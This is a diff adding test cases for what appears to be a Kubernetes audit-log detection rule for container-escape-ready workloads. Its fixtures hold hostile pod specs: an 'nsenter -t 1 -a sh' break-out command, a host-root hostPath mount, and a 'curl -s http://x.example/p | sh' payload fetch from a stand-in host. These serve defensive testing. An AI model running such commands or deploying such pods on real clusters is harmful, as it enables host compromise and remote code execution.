@@ -157,4 +157,37 @@ describe(ID, () => {
       expect.objectContaining({ count: 2, reason: 'audit level Metadata carries no request body' }),
     ]);
   });
+
+  it.each([
+    [
+      'a trusted image running a break-out command',
+      { image: 'falcosecurity/falco-no-driver', command: ['nsenter', '-t', '1', '-a', 'sh'] },
+      {},
+      ['runs nsenter (container c)'],
+    ],
+    [
+      'a trusted image mounting the host root',
+      { image: 'calico/node:v3.28', volumeMounts: [{ name: 'root', mountPath: '/host' }] },
+      { volumes: [{ name: 'root', hostPath: { path: '/' } }] },
+      ['host root / at /host (container c)'],
+    ],
+    [
+      'a trusted image with privileges only',
+      { image: 'calico/node:v3.28', securityContext: { privileged: true } },
+      { hostNetwork: true },
+      [],
+    ],
+    [
+      'an untrusted image fetching a payload',
+      { image: 'alpine', command: ['sh', '-c', 'curl -s http://x.example/p | sh'] },
+      {},
+      ['runs curl -s http://x.example/p | sh (container c)'],
+    ],
+  ])('%s', (_, container, spec, reasons) => {
+    const body = podBody([{ name: 'c', ...container }], spec);
+    const { hits } = run('k8s-escape-ready-workload', [request({ requestObject: body })]);
+    expect(hits.map((h) => h.hit.summary)).toEqual(
+      reasons.length === 0 ? [] : [expect.stringContaining(reasons[0]!)],
+    );
+  });
 });
